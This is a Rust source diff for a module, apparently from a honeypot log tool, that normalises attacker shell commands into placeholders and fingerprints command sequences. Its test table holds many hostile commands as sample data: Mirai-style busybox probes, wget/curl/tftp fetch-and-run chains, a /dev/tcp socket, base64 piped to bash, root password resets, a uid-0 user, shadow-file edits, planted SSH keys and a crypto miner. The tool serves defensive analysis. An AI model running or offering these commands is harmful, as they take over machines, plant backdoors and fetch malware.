@@ -1,338 +1,51 @@
-//! Commands without what varies from one run of an attack to the next, so that identical attacks are identical.
+//! Commands without what varies between runs of one attack: addresses, links, keys, passwords, names of dropped files.
 //!
-//! **Invariant**: normalising is idempotent, and its work and its result are bounded whatever an attacker types.
+//! | placeholder  | stands for |
+//! |--------------|------------|
+//! | `<url>`      | a link; an address or, for `wget` and `curl`, a host with or without a path |
+//! | `<ip>`       | an IPv4 or IPv6 address, with its port; a host that `tftp` or `ftpget` is given |
+//! | `<hex>`      | bytes written as `\x7f` or `\177`, with what is printable between them; 8 or more hexadecimal digits |
+//! | `<base64>`   | 24 or more characters of base64 |
+//! | `<sshkey>`   | the blob of an SSH public key; its type and comment stay, they name who planted it |
+//! | `<password>` | what is echoed into `passwd` or `chpasswd`, given to `useradd -p`, `sshpass -p` or `openssl passwd`, or noted in `/tmp/up.txt`; a password's hash |
+//! | `<file>`     | a path outside the system's directories, or hidden or random in one; a bare name that is fetched, run, removed, redirected to or made executable; a name that ends as a script, program or archive does |
+//! | `<random>`   | a name no one would give, and what busybox is asked for and does not have |
+//! | `<n>`        | a number that is a word of its own |
 //!
-//! What is replaced stands as a word in angle brackets: `<url>`, `<ip>`, `<hex>`, `<base64>`, `<sshkey>`, `<password>`, `<file>`, `<random>`, `<n>`,
-//! `<ctrl>`, `<cut>`. What tells attacks apart stays: programs, flags, paths of the system, the name in a key's comment, the user whose password is
-//! set. One who types a placeholder gets a placeholder.
+//! These stay: case, flags (`-9`, `-n1`), variables and `$4`, modes after `chmod`, numbers of streams (`2>&1`), paths and
+//! names of the system's own (`/proc/cpuinfo`, `~/.ssh/authorized_keys`). White space is one space, a line's end is `␤`,
+//! a placeholder that follows itself is written once, control characters are shown as their pictures. What a name is follows
+//! from its command alone: an attack that fetches `sh` and one that fetches `x` are the same.
+//!
+//! **Invariant**: normalising twice is normalising once, for any text, in time linear in its length.
 
-use std::{borrow::Cow, net::Ipv6Addr};
+mod known;
+mod program;
+mod scan;
+mod word;
 
-/// Of these rules: a change of any is a new version.
+use std::borrow::Cow;
+
+/// Counts changes of what [`normalise`] gives; kept beside every value derived from it.
 pub const VERSION: i16 = 1;
 
-/// Most bytes of a normalised command.
-const LONGEST: usize = 4_096;
-/// Bytes of a command that are looked at.
-const LOOKED_AT: usize = 4 * LONGEST;
-/// Replacing may make a word of what was part of one: after so many passes it must be stable.
-const PASSES: usize = 8;
-/// A command that was not.
-const UNSTABLE: &str = "<unstable>";
-
-const PLACEHOLDERS: [&str; 12] = ["<url>", "<ip>", "<hex>", "<base64>", "<sshkey>", "<password>", "<file>", "<random>", "<n>", "<ctrl>", "<cut>", UNSTABLE];
-
-/// A command in normal form, of at most 4 KiB.
+/// The command with placeholders for what varies between runs of one attack; at most 4 KiB, and `<cut>` where there was more.
 pub fn normalise(command: &str) -> Cow<'_, str> {
-    let mut normal = pass(cut(command, LOOKED_AT).as_ref());
-    for _ in 0..PASSES {
-        let again = pass(&normal);
-        if again == normal {
-            return if normal == command { Cow::Borrowed(command) } else { Cow::Owned(normal) };
-        }
-        normal = again;
-    }
-    Cow::Borrowed(UNSTABLE)
+    let normal = scan::Scanner::new(command).run();
+    if normal == command { Cow::Borrowed(command) } else { Cow::Owned(normal) }
 }
 
-/// The identity of a sequence of normalised commands: 128 bits of BLAKE3 over a domain tag and the length-prefixed commands.
+/// The identity of a sequence of commands: of each, as [`normalise`] gives it, and of their order.
 pub fn sequence_fingerprint<'a>(commands: impl IntoIterator<Item = &'a str>) -> [u8; 16] {
-    let mut hasher = blake3::Hasher::new_derive_key("cowriestream 2026-11 command sequence");
+    let mut hasher = blake3::Hasher::new();
+    hasher.update(b"cowriestream sequence v1");
     for command in commands {
-        hasher.update(&(command.len() as u64).to_le_bytes());
-        hasher.update(command.as_bytes());
+        let normal = normalise(command);
+        hasher.update(&(normal.len() as u64).to_le_bytes()).update(normal.as_bytes());
     }
-    let mut out = [0; 16];
-    hasher.finalize_xof().fill(&mut out);
-    out
-}
-
-/// At most `most` bytes, ending in `<cut>` if there was more; never cut within a placeholder.
-fn cut(text: &str, most: usize) -> Cow<'_, str> {
-    if text.len() <= most {
-        return Cow::Borrowed(text);
-    }
-    let mut end = most - "<cut>".len();
-    while !text.is_char_boundary(end) {
-        end -= 1;
-    }
-    if let Some(open) = text[..end].rfind('<')
-        && PLACEHOLDERS.iter().any(|p| text[open..].starts_with(p) && open + p.len() > end)
-    {
-        end = open;
-    }
-    Cow::Owned(format!("{}<cut>", &text[..end]))
-}
-
-/// One pass over a command.
-fn pass(text: &str) -> String {
-    let mut scan = Scan { text, at: 0, out: String::with_capacity(text.len()), sets: Sets::of(text), before: "", quote: None };
-    while scan.at < text.len() {
-        scan.step();
-    }
-    let out = scan.out.trim_end();
-    cut(out, LONGEST).into_owned()
-}
-
-/// What kind of password setting a command has in it.
-#[derive(Clone, Copy)]
-struct Sets {
-    chpasswd: bool,
-    passwd: bool,
-    useradd: bool,
-}
-
-impl Sets {
-    fn of(text: &str) -> Self {
-        let chpasswd = text.contains("chpasswd");
-        let passwd = text.match_indices("passwd").any(|(at, _)| {
-            let before = text[..at].trim_end();
-            // The program, fed by a pipe; not /etc/passwd, and not chpasswd.
-            before.ends_with('|') || before.ends_with("|sudo") || before.ends_with("| sudo")
-        });
-        Self { chpasswd, passwd, useradd: text.contains("useradd") || text.contains("usermod") || text.contains("openssl") }
-    }
-}
-
-struct Scan<'a> {
-    text: &'a str,
-    at: usize,
-    out: String,
-    sets: Sets,
-    /// The word before.
-    before: &'a str,
-    /// The quote that is open.
-    quote: Option<char>,
-}
-
-impl<'a> Scan<'a> {
-    /// Takes what stands next: a placeholder, space, a separator, or a word.
-    fn step(&mut self) {
-        let rest = &self.text[self.at..];
-        let Some(c) = rest.chars().next() else { return };
-        if c == '<'
-            && let Some(placeholder) = PLACEHOLDERS.iter().find(|p| rest.starts_with(**p))
-        {
-            self.before = "";
-            return self.take(placeholder.len(), placeholder);
-        }
-        if c.is_whitespace() {
-            let length = rest.find(|c: char| !c.is_whitespace()).unwrap_or(rest.len());
-            let space = if self.out.is_empty() || self.out.ends_with(' ') { "" } else { " " };
-            return self.take(length, space);
-        }
-        if c.is_control() {
-            let length = rest.find(|c: char| !c.is_control() || c.is_whitespace()).unwrap_or(rest.len());
-            let text = if self.out.ends_with("<ctrl>") { "" } else { "<ctrl>" };
-            return self.take(length, text);
-        }
-        if let Some(length) = self.password(rest) {
-            self.before = "";
-            return self.take(length, "<password>");
-        }
-        if self.sets.chpasswd {
-            let user = rest.len() - rest.trim_start_matches(is_of_user).len();
-            if user > 0 && rest[user..].starts_with(':') {
-                return self.take(user + 1, &rest[..=user]);
-            }
-        }
-        if is_separator(c) {
-            if c == '"' || c == '\'' {
-                self.quote = if self.quote == Some(c) { None } else { self.quote.or(Some(c)) };
-            }
-            return self.take(c.len_utf8(), &rest[..c.len_utf8()]);
-        }
-        if let Some(length) = url(rest) {
-            return self.take(length, "<url>");
-        }
-        let length = rest.find(|c: char| is_separator(c) || c.is_whitespace() || c.is_control()).unwrap_or(rest.len());
-        self.word(&rest[..length], &rest[length..]);
-    }
-
-    fn take(&mut self, length: usize, text: &str) {
-        self.out.push_str(text);
-        self.at += length;
-    }
-
-    /// The length of a password that begins here, if one does.
-    fn password(&self, rest: &str) -> Option<usize> {
-        let here = &self.text[..self.at];
-        let to_quote = || match self.quote {
-            Some(quote) => rest.find(quote).unwrap_or(rest.len()),
-            None => rest.find(|c: char| c.is_whitespace() || matches!(c, '|' | ';' | '&' | '"' | '\'' | '>' | '<' | ')')).unwrap_or(rest.len()),
-        };
-        let opened = self.quote.is_some_and(|quote| here.ends_with(quote));
-        let starts = opened || here.ends_with(char::is_whitespace);
-        let some = |length: usize| (length > 0 && !rest.starts_with("<password>")).then_some(length);
-        if self.sets.chpasswd && here.ends_with(':') {
-            let user = &here[..here.len() - 1];
-            let led = user.trim_end_matches(is_of_user);
-            if led.len() < user.len() && (led.is_empty() || led.ends_with(['"', '\'']) || led.ends_with(char::is_whitespace)) {
-                return some(to_quote());
-            }
-        }
-        if self.sets.passwd && starts && !rest.starts_with(['-', '|']) && (opened || rest[..to_quote()].contains("\\n")) {
-            return some(to_quote());
-        }
-        if self.sets.useradd
-            && (starts || self.before == "-p")
-            && matches!(self.before, "-p" | "--password" | "-1" | "-5" | "-6" | "-apr1")
-            && !rest.starts_with(['-', '"', '\'', '$'])
-        {
-            return some(to_quote());
-        }
-        None
-    }
-
-    /// Takes a word, as what it is.
-    fn word(&mut self, word: &'a str, after: &str) {
-        let before = std::mem::replace(&mut self.before, word);
-        self.at += word.len();
-        let out = &mut self.out;
-        if word.matches("\\x").count() >= 2 || octal(word) {
-            out.push_str("<hex>");
-        } else if word.starts_with("AAAA") && word.len() >= 60 {
-            out.push_str("<sshkey>");
-            self.at += after.len() - after.trim_start_matches('=').len();
-        } else if address(word) {
-            out.push_str("<ip>");
-        } else if hexadecimal(word) {
-            out.push_str("<hex>");
-        } else if base64(word) {
-            out.push_str("<base64>");
-            self.at += after.len() - after.trim_start_matches('=').len();
-        } else if word.contains('/') {
-            path(out, word);
-        } else if before.ends_with("busybox") && applet(word) {
-            out.push_str("<random>");
-        } else if out.trim_end().ends_with("<sshkey>") || out.ends_with('$') || before == "chmod" || after.starts_with('>') || out.ends_with(">&") {
-            out.push_str(word);
-        } else {
-            plain(out, word);
-        }
-    }
-}
-
-/// What the name of a user is made of.
-fn is_of_user(c: char) -> bool {
-    c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.')
-}
-
-/// What ends a word.
-fn is_separator(c: char) -> bool {
-    matches!(c, '"' | '\'' | '`' | ';' | '|' | '&' | '<' | '>' | '(' | ')' | '{' | '}' | '[' | ']' | ',' | '=' | '$' | '!' | '*' | '?' | '#' | '@' | '~' | '^')
-}
-
-/// The length of a URL here: a scheme, or an address or a domain followed by a path.
-fn url(rest: &str) -> Option<usize> {
-    let end =
-        || rest.find(|c: char| c.is_whitespace() || c.is_control() || matches!(c, '"' | '\'' | '`' | ';' | '|' | '<' | '>' | ')' | '}')).unwrap_or(rest.len());
-    let scheme = rest.bytes().take(8).take_while(u8::is_ascii_alphabetic).count();
-    if scheme >= 2 && rest[scheme..].starts_with("://") {
-        return Some(end()).filter(|&end| end > scheme + 3);
-    }
-    let host = &rest[..rest.find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':'))).unwrap_or(rest.len())];
-    let path = rest[host.len()..].starts_with('/');
-    (path && (address(host) || domain(host))).then(end)
-}
-
-/// `host.tld`, perhaps with a port.
-fn domain(host: &str) -> bool {
-    let name = host.split(':').next().unwrap_or_default();
-    let mut labels = name.rsplit('.');
-    let top = labels.next().unwrap_or_default();
-    let mut others = labels.peekable();
-    others.peek().is_some() && others.all(|label| !label.is_empty()) && (2..=6).contains(&top.len()) && top.bytes().all(|b| b.is_ascii_lowercase())
-}
-
-/// An address, perhaps with a port.
-fn address(word: &str) -> bool {
-    let four = word.split(':').next().unwrap_or_default();
-    let mut parts = 0;
-    let dotted = four.split('.').all(|part| {
-        parts += 1;
-        (1..=3).contains(&part.len()) && part.bytes().all(|b| b.is_ascii_digit())
-    });
-    let port = word[four.len()..].strip_prefix(':').is_none_or(|port| port.bytes().all(|b| b.is_ascii_digit()));
-    (dotted && parts == 4 && port) || (word.matches(':').count() >= 2 && word.parse::<Ipv6Addr>().is_ok())
-}
-
-/// `\177\105\114` …
-fn octal(word: &str) -> bool {
-    let escapes = word.as_bytes().windows(2).filter(|pair| pair[0] == b'\\' && pair[1].is_ascii_digit()).count();
-    escapes >= 3
-}
-
-/// `0x…`, or at least 16 hexadecimal digits.
-fn hexadecimal(word: &str) -> bool {
-    let digits = word.strip_prefix("0x").or_else(|| word.strip_prefix("0X"));
-    let all = |text: &str| !text.is_empty() && text.bytes().all(|b| b.is_ascii_hexdigit());
-    digits.is_some_and(all) || (word.len() >= 16 && all(word) && word.bytes().any(|b| b.is_ascii_digit()))
-}
-
-/// At least 24 characters of the alphabet, of three kinds, and not a path.
-fn base64(word: &str) -> bool {
-    if word.len() < 24 || !word.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_')) {
-        return false;
-    }
-    let kinds = [u8::is_ascii_uppercase, u8::is_ascii_lowercase, u8::is_ascii_digit].iter().filter(|is| word.bytes().any(|b| is(&b))).count();
-    kinds == 3 && word.bytes().filter(|&b| b == b'/').count() * 12 <= word.len() && !word.starts_with(['/', '-'])
-}
-
-/// Where attackers put their files: what lies below is theirs.
-const DROPS: [&str; 13] =
-    ["/tmp/", "/var/tmp/", "/dev/shm/", "/var/run/", "/run/", "/mnt/", "/var/lock/", "/data/local/tmp/", "/dev/netslink/", "/opt/", "/srv/", "./", "../"];
-
-/// A path: the name of a dropped file is replaced, and numbers and random names among the others.
-fn path(out: &mut String, word: &str) {
-    if let Some(drop) = DROPS.iter().find(|drop| word.starts_with(**drop)) {
-        out.push_str(drop);
-        if word.len() > drop.len() {
-            out.push_str("<file>");
-        }
-        return;
-    }
-    for (n, name) in word.split('/').enumerate() {
-        if n > 0 {
-            out.push('/');
-        }
-        plain(out, name);
-    }
-}
-
-/// All that busybox has no applet for: Mirai and its kin ask for one to see who answers.
-fn applet(word: &str) -> bool {
-    (3..=16).contains(&word.len()) && word.bytes().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit())
-}
-
-/// A number (perhaps with a unit), a random name, or a word.
-fn plain(out: &mut String, word: &str) {
-    let digits = word.bytes().take_while(|b| b.is_ascii_digit() || *b == b'.').count();
-    if digits > 0 && word.as_bytes()[0].is_ascii_digit() && word.len() - digits <= 1 && word[digits..].bytes().all(|b| b.is_ascii_alphabetic()) {
-        out.push_str("<n>");
-        out.push_str(&word[digits..]);
-    } else if random(word) {
-        out.push_str("<random>");
-    } else {
-        out.push_str(word);
-    }
-}
-
-/// Whether a name looks as if nobody had chosen it: letters and digits in turns, case in turns, or a long run of consonants.
-fn random(word: &str) -> bool {
-    if !(6..=64).contains(&word.len()) || !word.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-')) || word.starts_with('-') {
-        return false;
-    }
-    let (mut turns, mut cases, mut run, mut longest) = (0, 0, 0, 0);
-    for pair in word.as_bytes().windows(2) {
-        turns += u32::from(pair[0].is_ascii_alphabetic() && pair[1].is_ascii_digit() || pair[0].is_ascii_digit() && pair[1].is_ascii_alphabetic());
-        cases += u32::from(pair[0].is_ascii_lowercase() && pair[1].is_ascii_uppercase());
-    }
-    for b in word.bytes() {
-        run = if b.is_ascii_alphabetic() && !b"aeiouyAEIOUY".contains(&b) { run + 1 } else { 0 };
-        longest = longest.max(run);
-    }
-    turns >= 3 || (cases >= 2 && turns >= 1) || cases >= 3 || (longest >= 6 && word.len() >= 7)
+    let mut fingerprint = [0; 16];
+    hasher.finalize_xof().fill(&mut fingerprint);
+    fingerprint
 }
 
 #[cfg(test)]
@@ -341,105 +54,150 @@ mod tests {
 
     use super::*;
 
+    const KEY: &str = "AAAAB3NzaC1yc2EAAAADAQABAAABAQC7d1Jx0pXw4mQ9vR2sT8uK3nLfYbH6oZ5cGqEiVtWa+DSkM/PrNyUjBhXlOeCz";
+
+    /// Each is the first of a kind seen in real logs, with other names.
+    const ATTACKS: &[(&str, &str)] = &[
+        // Mirai and its children.
+        ("/bin/busybox QWERT", "/bin/busybox <random>"),
+        ("/bin/busybox wget http://198.51.100.7:8080/bins/x.arm7 -O /tmp/.x; /bin/busybox ZXCVB", "/bin/busybox wget <url> -O <file>; /bin/busybox <random>"),
+        ("cat /proc/mounts; /bin/busybox FGHJK", "cat /proc/mounts; /bin/busybox <random>"),
+        ("cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox LKJHG", "cd /dev/shm; cat <file> || cp /bin/echo <file>; /bin/busybox <random>"),
+        (
+            "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
+            "dd bs=<n> count=<n> if=<file> || cat <file> || while read i; do echo $i; done < <file>",
+        ),
+        (">/var/run/.a && cd /var/run/; >/tmp/.a && cd /tmp/", "><file> && cd /var/run/; ><file> && cd /tmp/"),
+        (r"echo -ne '\x7f\x45\x4c\x46\x01\x01\x00' > upd; /bin/busybox chmod 777 upd", "echo -ne '<hex>' > <file>; /bin/busybox chmod 777 <file>"),
+        (r#"echo -en "\\x31\\x33\\x33\\x37""#, r#"echo -en "<hex>""#),
+        (r"echo -ne '\177ELF\001\x00T' >> .d", "echo -ne '<hex>' >> <file>"),
+        (r"echo -e '\x47\x72\x6f\x70/tmp' > /tmp/.n", "echo -e '<hex>/tmp' > <file>"),
+        ("/ab3kdwe91f", "<file>"),
+        // Fetch and run.
+        (
+            "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.7/ah; curl -O http://198.51.100.7/ah; chmod 777 ah; sh ah; tftp 198.51.100.7 -c get b.sh; tftp -r .sh -g 198.51.100.7; ftpget -v -u anonymous -p anonymous -P 21 198.51.100.7 f1.sh f1.sh; rm -rf ah b.sh; rm -rf *",
+            "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget <url>; curl -O <url>; chmod 777 <file>; sh <file>; tftp <ip> -c get <file>; tftp -r <file> -g <ip>; ftpget -v -u anonymous -p anonymous -P <n> <ip> <file>; rm -rf <file>; rm -rf *",
+        ),
+        ("wget evil.example/x.sh; tftp evil.example -c get x.sh; curl evil.example", "wget <url>; tftp <ip> -c get <file>; curl <url>"),
+        ("wget 203.0.113.9/a/b || curl 203.0.113.9:81/a?b=c", "wget <url> || curl <url>"),
+        ("chmod +x ./.50771/sshd;nohup ./.50771/sshd 192.0.2.1 192.0.2.2 192.0.2.3 &", "chmod +x <file>;nohup <file> <ip> &"),
+        ("cd /tmp && chmod +x TmqWwR7A && bash -c ./TmqWwR7A", "cd /tmp && chmod +x <file> && bash -c <file>"),
+        ("scp -qt \"/tmp/qwRt81Zb\"", "scp -qt \"<file>\""),
+        ("bash -c \"wget -qO- https://x.example/i.sh | sh\"", "bash -c \"wget -qO- <url> | sh\""),
+        ("exec 3<>/dev/tcp/192.0.2.8/443", "exec <n><>/dev/tcp/<ip>"),
+        (
+            "sleep 15s && echo \"IyEvYmluL3NoCmNkIC90bXAKcm0gLXJmIC5zc2gKd2dldA==\" | base64 --decode | bash",
+            "sleep 15s && echo \"<base64>\" | base64 --decode | bash",
+        ),
+        ("./xmrig -o stratum+tcp://pool.example:3333 -u wallet --donate-level 1 --threads=4", "<file> -o <url> -u wallet --donate-level <n> --threads=<n>"),
+        ("pkill -9 xmrig; kill -9 4711; ls /proc/4711/exe", "pkill -9 xmrig; kill -9 <n>; ls /proc/<n>/exe"),
+        // Passwords.
+        (r#"echo "root:XyZ123abcDEF"|chpasswd|bash"#, "echo <password>|chpasswd|bash"),
+        (r#"echo root:hello | sudo chpasswd"#, "echo <password> | sudo chpasswd"),
+        (r#"echo -e "old\nnew;|&er\nnewer"|passwd|bash"#, "echo -e <password>|passwd|bash"),
+        (r#"uname -a; printf 'a\na\n' | /usr/bin/passwd root; id"#, "uname -a; printf <password> | /usr/bin/passwd root; id"),
+        ("hunter2'|passwd|bash;", "<password>'|passwd|bash;"),
+        (
+            "useradd -o -u 0 -p '$1$ab$c' sys; sshpass -p \"a b\" ssh root@192.0.2.4",
+            "useradd -o -u <n> -p '<password>' sys; sshpass -p \"<password>\" ssh root@<ip>",
+        ),
+        ("usermod -p `openssl passwd -1 secret` root", "usermod -p `openssl passwd -1 <password>` root"),
+        ("echo 'x:$6$saltsalt$Zk3v.9/aB:0' >> /etc/shadow", "echo 'x:<password>:<n>' >> /etc/shadow"),
+        ("chpasswd <<< 'root:pw'", "chpasswd <<< '<password>'"),
+        ("echo a|'b;c d'|chpasswd", "echo a|'b;c d'|chpasswd"),
+        (r#"echo "admin hunter2" > /tmp/up.txt; rm -rf /tmp/up.txt"#, "echo <password> > <file>; rm -rf <file>"),
+        ("cat /etc/passwd | grep root", "cat /etc/passwd | grep root"),
+        // What stays tells attacks apart.
+        (
+            "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
+            "cat /proc/cpuinfo | grep name | head -n <n> | awk '{print $4,$5,$6,$7,$8,$9;}'",
+        ),
+        ("uname -s -v -n -r -m 2>/dev/null >&2", "uname -s -v -n -r -m 2>/dev/null >&2"),
+        ("cd ~; chattr -ia .ssh; lockr -ia .ssh", "cd ~; chattr -ia .ssh; lockr -ia .ssh"),
+        (
+            "chmod 600 ~/.ssh/authorized_keys && chmod -R go= ~/.ssh && chmod u=rwx /etc/passwd",
+            "chmod 600 ~/.ssh/authorized_keys && chmod -R go= ~/.ssh && chmod u=rwx /etc/passwd",
+        ),
+        ("export HISTFILE=/dev/null; unset HISTORY", "export HISTFILE=/dev/null; unset HISTORY"),
+        ("/ip cloud print", "/ip cloud print"),
+        ("sed 's/^ *//;s/ *$//' | sha256sum", "sed 's/^ *//;s/ *$//' | sha256sum"),
+        ("ls /usr/lib64/ /etc/init.d/.hid3 ~/.aws/credentials", "ls /usr/lib64/ <file> ~/.aws/credentials"),
+        // Addresses and forms.
+        ("ping ::1; ping fe80::1%eth0; nc 2001:db8::7 80; date 12:30:45; nc 192.0.2.1:22", "ping <ip>; ping <ip>%eth0; nc <ip> <n>; date <n>:<n>:<n>; nc <ip>"),
+        ("echo 7f454c4601 aa:bb deadbeef 0x1f 3.14", "echo <hex> aa:bb deadbeef <n>"),
+        ("  ls \t -la\r\n\n id \n", "ls -la␤id"),
+        ("a\u{1}b\u{7f}c\u{202e}d", "a␁b␡c\u{fffd}d"),
+        ("", ""),
+    ];
+
     #[test]
-    fn what_varies_is_replaced_and_what_tells_attacks_apart_stays() {
-        for (command, normal) in [
-            ("  uname   -s -v -n -r -m ", "uname -s -v -n -r -m"),
-            ("cd /tmp; wget http://203.0.113.9/bins/x86 -O .x; chmod 777 .x; ./.x ssh", "cd /tmp; wget <url> -O .x; chmod 777 .x; ./<file> ssh"),
-            ("cd /tmp || cd /var/run || cd /mnt; wget 203.0.113.9/ohshit.sh; sh ohshit.sh", "cd /tmp || cd /var/run || cd /mnt; wget <url>; sh ohshit.sh"),
-            ("tftp -g -r tftp1.sh 203.0.113.9", "tftp -g -r tftp1.sh <ip>"),
-            ("/bin/busybox QVKZD", "/bin/busybox <random>"),
-            ("/bin/busybox cat /proc/self/exe || cat /proc/1234/exe", "/bin/busybox cat /proc/self/exe || cat /proc/<n>/exe"),
-            (r#"echo "root:Zx9(kQ1;aa"|chpasswd|bash"#, r#"echo "root:<password>"|chpasswd|bash"#),
-            (r#"echo root:Zx9kQ1 | chpasswd"#, "echo root:<password> | chpasswd"),
-            (r#"echo -e "123456\nQ1w2\nQ1w2"|passwd|bash"#, r#"echo -e "<password>"|passwd|bash"#),
-            (r#"echo "123456\nabc\nabc\n"|passwd"#, r#"echo "<password>"|passwd"#),
-            ("useradd -m -p Xy12 hacker", "useradd -m -p <password> hacker"),
-            (r"echo -ne '\x7f\x45\x4c\x46' > /tmp/.f3a", "echo -ne '<hex>' > /tmp/<file>"),
-            ("cat /proc/cpuinfo | grep name | wc -l", "cat /proc/cpuinfo | grep name | wc -l"),
-            ("cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6}'", "cat /proc/cpuinfo | grep name | head -n <n> | awk '{print $4,$5,$6}'"),
-            ("dd bs=52 count=1 if=.s || cat .s", "dd bs=<n> count=<n> if=.s || cat .s"),
-            ("free -m | grep Mem 2>&1", "free -m | grep Mem 2>&1"),
-            ("kill -9 4711; rm -rf /tmp/*", "kill -9 <n>; rm -rf /tmp/*"),
-            (
-                "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1== mdrfckr\">>.ssh/authorized_keys",
-                "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa <sshkey> mdrfckr\">>.ssh/authorized_keys",
-            ),
-            ("echo d2dldCBodHRwOi8vMjAzLjAuMTEzLjkveA== | base64 -d | sh", "echo <base64> | base64 -d | sh"),
-            ("wget 'https://example.com/a?b=c&d=1' ;curl -O example.org/x.sh", "wget '<url>' ;curl -O <url>"),
-            ("ping 2001:db8::1; nc 203.0.113.9:4444", "ping <ip>; nc <ip>"),
-            ("echo \u{1b}[31mred\u{7}\u{7}", "echo <ctrl>[31mred<ctrl>"),
-            ("./x1f3k2", "./<file>"),
-            ("a7Gk2pQ9 --help", "<random> --help"),
-            ("", ""),
-        ] {
-            assert_eq!(normalise(command), normal, "{command}");
+    fn what_varies_becomes_a_placeholder() {
+        for (command, normal) in ATTACKS {
+            assert_eq!(normalise(command), *normal, "{command}");
+            assert_eq!(normalise(normal), *normal, "again: {command}");
         }
     }
 
     #[test]
-    fn it_is_bounded() {
-        for text in ["a".repeat(1 << 20), " ".repeat(1 << 20), "/1".repeat(1 << 19), "<n>".repeat(1 << 18), "\\x41".repeat(1 << 18), "5 ".repeat(1 << 19)] {
-            assert!(normalise(&text).len() <= LONGEST);
-        }
+    fn a_planted_key_is_told_by_its_comment() {
+        let plant = |key: &str, who: &str| normalise(&format!("echo \"ssh-rsa {key}== {who}\">>.ssh/authorized_keys")).into_owned();
+        assert_eq!(plant(KEY, "mdrfckr"), "echo \"ssh-rsa <sshkey> mdrfckr\">>.ssh/authorized_keys");
+        assert_ne!(plant(KEY, "mdrfckr"), plant(KEY, "someone"));
     }
 
     #[test]
-    fn a_sequence_has_one_fingerprint() {
-        assert_ne!(sequence_fingerprint(["ab", "c"]), sequence_fingerprint(["a", "bc"]));
-        assert_eq!(u128::from_be_bytes(sequence_fingerprint(["uname -a", "exit"])), 127_666_891_213_183_121_057_402_745_799_182_716_955, "frozen");
+    fn what_is_normal_is_lent() {
+        assert!(matches!(normalise("cat /proc/cpuinfo"), Cow::Borrowed(_)));
     }
 
-    fn part() -> impl Strategy<Value = String> {
-        let fixed = [
-            " ",
-            ";",
-            "|",
-            "\"",
-            "'",
-            "<",
-            ">",
-            ":",
-            "/",
-            "\\n",
-            "\\x41",
-            "<n>",
-            "<file>",
-            "<password>",
-            "<cut",
-            "$(",
-            "root:",
-            "passwd",
-            "|passwd",
-            "chpasswd",
-            "openssl passwd -1 ",
-            "useradd -p ",
-            "/tmp/",
-            "./",
-            "/proc/12/",
-            "http://",
-            "1.2.3.4",
-            "::1",
-            "AAAA",
-            "busybox ",
-            "chmod 755",
-            "2>&1",
-            "=",
-            "\u{1b}",
-            "ä",
+    #[test]
+    fn a_long_command_is_cut() {
+        let normal = normalise(&"uname ".repeat(10_000)).into_owned();
+        assert!(normal.ends_with(" uname <cut>") && normal.len() <= scan::LIMIT + 6);
+        assert_eq!(normalise(&normal), normal);
+        assert_eq!(normalise(&"é".repeat(5_000)), "<cut>");
+    }
+
+    #[test]
+    fn sequences_are_frozen() {
+        let first = sequence_fingerprint(["uname -a", "wget http://192.0.2.1/a; sh a"]);
+        assert_eq!(first, sequence_fingerprint(["uname  -a", "wget http://192.0.2.2/b; sh b"]));
+        assert_ne!(first, sequence_fingerprint(["wget http://192.0.2.1/a; sh a", "uname -a"]));
+        assert_ne!(sequence_fingerprint(["a", "b"]), sequence_fingerprint(["a b"]));
+        assert_eq!(format!("{:032x}", u128::from_be_bytes(first)), "2d61910dcb321a7556e3c2dca9b2c871");
+    }
+
+    /// Time that grows faster than the text would show as a test that does not end.
+    #[test]
+    fn nothing_is_looked_at_again_and_again() {
+        for piece in ["a:", ":", "\\", "\\x4", "$1$", "'|passwd", "echo a|passwd;", "\u{feff}é", "fe80:", "-p '", "<", "a/", "(", "useradd -p ", "1.", "a|"] {
+            normalise(&piece.repeat(1_000_000 / piece.len()));
+        }
+    }
+
+    #[rustfmt::skip]
+    fn piece() -> impl Strategy<Value = String> {
+        let tokens = [
+            "<", ">", "n>", "<n>", "<cut>", "<password>", "<file>", "<ip>", "<hex>", " ", " ", "\n", "␤", "'", "\"", "\\", "\\x41", "\\101", "|", ";",
+            "&", ">&", "2>", "(", "`", "$", "$1$", "${", ":", "::", "://", "http", "1.2.3.4", "fe80::", ":80", "/", "/tmp/", "/etc/passwd", "./", ".",
+            "..", "~/", "x9f3kq2", "TmqWwR7A", "abc", "echo ", "-e ", "passwd", "chpasswd", "| passwd", "openssl passwd -1 ", "useradd -p ",
+            "busybox ", "/bin/busybox ", "chmod ", "777", "12", "wget ", "tftp -r ", "sh ", "rm ", "-c ", "=", "==", KEY,
+            "IyEvYmluL2Jhc2gKY2QgL3RtcAkKcm0g", "deadbeef01", "\u{1}", "\u{85}", "\u{202e}", "é", "evil.com", "/dev/tcp/", "/proc/", "> /tmp/up.txt", "-", "@", ",",
+            "*", "get ", "awk ", "go", "␁", "0x1f", "mdrfckr",
         ];
-        prop_oneof![4 => prop::sample::select(fixed.to_vec()).prop_map(str::to_owned), 1 => "[a-zA-Z0-9]{1,30}", 1 => any::<char>().prop_map(String::from)]
+        prop_oneof![8 => prop::sample::select(tokens.to_vec()).prop_map(str::to_owned), 1 => any::<char>().prop_map(String::from), 1 => "[ -~]{1,4}"]
     }
 
     proptest! {
-        #![proptest_config(ProptestConfig::with_cases(2_000))]
+        #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(4_000) })]
+
         #[test]
-        fn it_is_idempotent(parts in prop::collection::vec(part(), 0..60)) {
-            let command = parts.concat();
-            let normal = normalise(&command);
-            prop_assert!(normal.len() <= LONGEST);
-            let again = normalise(&normal);
-            prop_assert_eq!(&again, &normal);
